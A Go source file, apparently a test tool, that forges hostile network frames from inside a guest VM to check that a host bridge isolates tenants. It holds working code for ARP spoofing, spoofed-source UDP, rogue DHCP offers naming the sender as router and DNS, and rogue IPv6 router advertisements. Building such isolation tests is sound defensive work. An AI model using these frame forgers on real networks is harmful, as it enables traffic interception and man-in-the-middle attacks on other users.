//go:build linux

// Command netattack forges the frames a hostile tenant would send on the
// farm bridge, for the attack suites of the guest drivers: they build it
// static (CGO_ENABLED=0, see guesttest.NetAttack), copy it into a guest and
// run it as the guest's root. It writes raw frames through an AF_PACKET
// socket, which needs CAP_NET_RAW in the guest; without it, it says so and
// exits 3. Every forged frame carries a marker the host side looks for.
//
//	netattack arp-reply IFACE CLAIM_IP TARGET_IP TARGET_MAC
//	    ARP replies "CLAIM_IP is-at <IFACE's MAC>" to TARGET (5 of them)
//	netattack udp IFACE SRC_MAC SRC_IP DST_MAC DST_IP DPORT MARKER
//	    one UDP datagram with any source MAC and address (spoofing)
//	netattack dhcp-offer IFACE OFFER_IP MARKER
//	    a DHCP offer from port 67 to the broadcast address
//	netattack ra IFACE PREFIX MARKER
//	    an IPv6 router advertisement to all nodes with an autoconf PREFIX/64
//	netattack tcp ADDR TIMEOUT
//	    connects (no raw socket needed) and prints what the peer sends
//	netattack send ADDR MARKER
//	    one UDP datagram through an ordinary socket (the guest's own traffic)
//	netattack ping IP
//	    one ICMP echo through a datagram socket, as iputils ping does
//	    without CAP_NET_RAW (allowed by net.ipv4.ping_group_range)
package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		usage()
	}
	var err error
	a := os.Args[2:]
	switch os.Args[1] {
	case "arp-reply":
		need(a, 4)
		err = arpReply(a[0], ip4(a[1]), ip4(a[2]), mac(a[3]))
	case "udp":
		need(a, 7)
		port, _ := strconv.Atoi(a[5])
		err = sendUDP(a[0], mac(a[1]), ip4(a[2]), mac(a[3]), ip4(a[4]), 40000, uint16(port), []byte(a[6]))
	case "dhcp-offer":
		need(a, 3)
		err = dhcpOffer(a[0], ip4(a[1]), a[2])
	case "ra":
		need(a, 3)
		err = routerAdvert(a[0], net.ParseIP(a[1]), a[2])
	case "tcp":
		need(a, 2)
		err = dialTCP(a[0], a[1])
	case "send":
		need(a, 2)
		err = sendSocket(a[0], a[1])
	case "ping":
		need(a, 1)
		err = pingDgram(ip4(a[0]))
	default:
		usage()
	}
	if errors.Is(err, unix.EPERM) || errors.Is(err, unix.EACCES) {
		fmt.Fprintf(os.Stderr, "netattack: %v (no CAP_NET_RAW)\n", err)
		os.Exit(3)
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "netattack: %v\n", err)
		os.Exit(1)
	}
	fmt.Println("sent")
}

func usage() {
	fmt.Fprintln(os.Stderr, "usage: netattack arp-reply|udp|dhcp-offer|ra|tcp ARGS... (see the package doc)")
	os.Exit(2)
}

func need(a []string, n int) {
	if len(a) != n {
		usage()
	}
}

func ip4(s string) net.IP {
	ip := net.ParseIP(s).To4()
	if ip == nil {
		fmt.Fprintf(os.Stderr, "netattack: %q: not an IPv4 address\n", s)
		os.Exit(2)
	}
	return ip
}

func mac(s string) net.HardwareAddr {
	m, err := net.ParseMAC(s)
	if err != nil {
		fmt.Fprintf(os.Stderr, "netattack: %v\n", err)
		os.Exit(2)
	}
	return m
}

// send writes whole Ethernet frames out of iface.
func send(iface string, frames ...[]byte) error {
	ifi, err := net.InterfaceByName(iface)
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		return fmt.Errorf("packet socket: %w", err)
	}
	defer unix.Close(fd)
	sa := &unix.SockaddrLinklayer{Ifindex: ifi.Index, Protocol: htons(unix.ETH_P_ALL), Halen: 6}
	for _, f := range frames {
		copy(sa.Addr[:], f[:6])
		if err := unix.Sendto(fd, f, 0, sa); err != nil {
			return fmt.Errorf("send: %w", err)
		}
	}
	return nil
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func ether(dst, src net.HardwareAddr, typ uint16, payload []byte) []byte {
	f := make([]byte, 14, 14+len(payload))
	copy(f, dst)
	copy(f[6:], src)
	binary.BigEndian.PutUint16(f[12:], typ)
	f = append(f, payload...)
	for len(f) < 60 {
		f = append(f, 0)
	}
	return f
}

func ownMAC(iface string) (net.HardwareAddr, error) {
	ifi, err := net.InterfaceByName(iface)
	if err != nil {
		return nil, err
	}
	return ifi.HardwareAddr, nil
}

func arpReply(iface string, claim, target net.IP, targetMAC net.HardwareAddr) error {
	me, err := ownMAC(iface)
	if err != nil {
		return err
	}
	p := make([]byte, 28)
	binary.BigEndian.PutUint16(p[0:], 1)      // Ethernet
	binary.BigEndian.PutUint16(p[2:], 0x0800) // IPv4
	p[4], p[5] = 6, 4
	binary.BigEndian.PutUint16(p[6:], 2) // reply
	copy(p[8:], me)
	copy(p[14:], claim)
	copy(p[18:], targetMAC)
	copy(p[24:], target)
	f := ether(targetMAC, me, unix.ETH_P_ARP, p)
	for i := 0; i < 5; i++ {
		if err := send(iface, f); err != nil {
			return err
		}
		time.Sleep(200 * time.Millisecond)
	}
	return nil
}

func csum(b []byte, sum uint32) uint16 {
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

func ipv4UDP(src, dst net.IP, sport, dport uint16, payload []byte) []byte {
	udp := make([]byte, 8, 8+len(payload))
	binary.BigEndian.PutUint16(udp[0:], sport)
	binary.BigEndian.PutUint16(udp[2:], dport)
	binary.BigEndian.PutUint16(udp[4:], uint16(8+len(payload)))
	udp = append(udp, payload...) // checksum 0: none (IPv4)
	h := make([]byte, 20)
	h[0] = 0x45
	binary.BigEndian.PutUint16(h[2:], uint16(20+len(udp)))
	h[8], h[9] = 64, 17
	copy(h[12:], src.To4())
	copy(h[16:], dst.To4())
	binary.BigEndian.PutUint16(h[10:], csum(h, 0))
	return append(h, udp...)
}

func sendUDP(iface string, srcMAC net.HardwareAddr, src net.IP, dstMAC net.HardwareAddr, dst net.IP, sport, dport uint16, payload []byte) error {
	return send(iface, ether(dstMAC, srcMAC, unix.ETH_P_IP, ipv4UDP(src, dst, sport, dport, payload)))
}

// dhcpOffer is a BOOTP reply (RFC 2131) offering offer, the marker in its
// server host name field.
func dhcpOffer(iface string, offer net.IP, marker string) error {
	me, err := ownMAC(iface)
	if err != nil {
		return err
	}
	ifi, _ := net.InterfaceByName(iface)
	var src net.IP
	if addrs, err := ifi.Addrs(); err == nil {
		for _, a := range addrs {
			if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil {
				src = n.IP.To4()
			}
		}
	}
	if src == nil {
		src = net.IPv4zero.To4()
	}
	b := make([]byte, 240)
	b[0], b[1], b[2] = 2, 1, 6 // reply, Ethernet
	binary.BigEndian.PutUint32(b[4:], 0x7f000001)
	copy(b[16:], offer)
	copy(b[20:], src)
	copy(b[28:], net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff})
	copy(b[44:108], marker)
	copy(b[236:], []byte{99, 130, 83, 99})
	b = append(b, 53, 1, 2) // DHCPOFFER
	b = append(b, 54, 4)
	b = append(b, src...)
	b = append(b, 3, 4) // router: the attacker
	b = append(b, src...)
	b = append(b, 6, 4) // DNS: the attacker
	b = append(b, src...)
	b = append(b, 255)
	bcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	return send(iface, ether(bcast, me, unix.ETH_P_IP, ipv4UDP(src, net.IPv4bcast.To4(), 67, 68, b)))
}

// routerAdvert announces itself as default router with PREFIX/64 for
// autoconfiguration, the marker in a trailing option.
func routerAdvert(iface string, prefix net.IP, marker string) error {
	me, err := ownMAC(iface)
	if err != nil {
		return err
	}
	if prefix.To16() == nil || prefix.To4() != nil {
		return fmt.Errorf("prefix %s: want IPv6", prefix)
	}
	src := net.IP{0xfe, 0x80, 0, 0, 0, 0, 0, 0, me[0] ^ 2, me[1], me[2], 0xff, 0xfe, me[3], me[4], me[5]}
	dst := net.ParseIP("ff02::1")
	ra := []byte{134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0} // lifetime 1800 s
	ra = append(ra, 1, 1)                                                 // source link-layer address
	ra = append(ra, me...)
	pi := make([]byte, 32)
	pi[0], pi[1], pi[2], pi[3] = 3, 4, 64, 0xc0 // prefix info, /64, on-link + autonomous
	binary.BigEndian.PutUint32(pi[4:], 86400)
	binary.BigEndian.PutUint32(pi[8:], 14400)
	copy(pi[16:], prefix.To16())
	ra = append(ra, pi...)
	// The marker in an unknown option (type 253, experimental), padded to 8s.
	m := []byte(marker)
	n := (2 + len(m) + 7) / 8
	opt := make([]byte, n*8)
	opt[0], opt[1] = 253, byte(n)
	copy(opt[2:], m)
	ra = append(ra, opt...)
	pseudo := make([]byte, 40)
	copy(pseudo, src)
	copy(pseudo[16:], dst)
	binary.BigEndian.PutUint32(pseudo[32:], uint32(len(ra)))
	pseudo[39] = 58
	var sum uint32
	for i := 0; i < len(pseudo); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(pseudo[i:]))
	}
	binary.BigEndian.PutUint16(ra[2:], csum(ra, sum))
	h := make([]byte, 40)
	h[0] = 0x60
	binary.BigEndian.PutUint16(h[4:], uint16(len(ra)))
	h[6], h[7] = 58, 255
	copy(h[8:], src)
	copy(h[24:], dst)
	allNodes := net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}
	f := ether(allNodes, me, unix.ETH_P_IPV6, append(h, ra...))
	return send(iface, f, f, f)
}

func dialTCP(addr, timeout string) error {
	d, err := time.ParseDuration(timeout)
	if err != nil {
		return err
	}
	c, err := net.DialTimeout("tcp", addr, d)
	if err != nil {
		return err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(d))
	b, _ := io.ReadAll(c)
	fmt.Printf("read: %s\n", b)
	return nil
}

func sendSocket(addr, marker string) error {
	c, err := net.Dial("udp", addr)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = c.Write([]byte(marker))
	return err
}

func pingDgram(ip net.IP) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP)
	if err != nil {
		return fmt.Errorf("icmp datagram socket: %w", err)
	}
	defer unix.Close(fd)
	tv := unix.NsecToTimeval(int64(2 * time.Second))
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
	echo := []byte{8, 0, 0, 0, 0, 0, 0, 1, 'p', 'i', 'n', 'g'} // the kernel sets id and checksum
	sa := &unix.SockaddrInet4{}
	copy(sa.Addr[:], ip)
	if err := unix.Sendto(fd, echo, 0, sa); err != nil {
		return fmt.Errorf("icmp echo: %w", err)
	}
	buf := make([]byte, 1500)
	n, _, err := unix.Recvfrom(fd, buf, 0)
	if err != nil {
		return fmt.Errorf("icmp echo reply: %w", err)
	}
	if n < 8 || buf[0] != 0 {
		return fmt.Errorf("icmp: got type %d, want an echo reply", buf[0])
	}
	fmt.Printf("echo reply from %s\n", ip)
	return nil
}
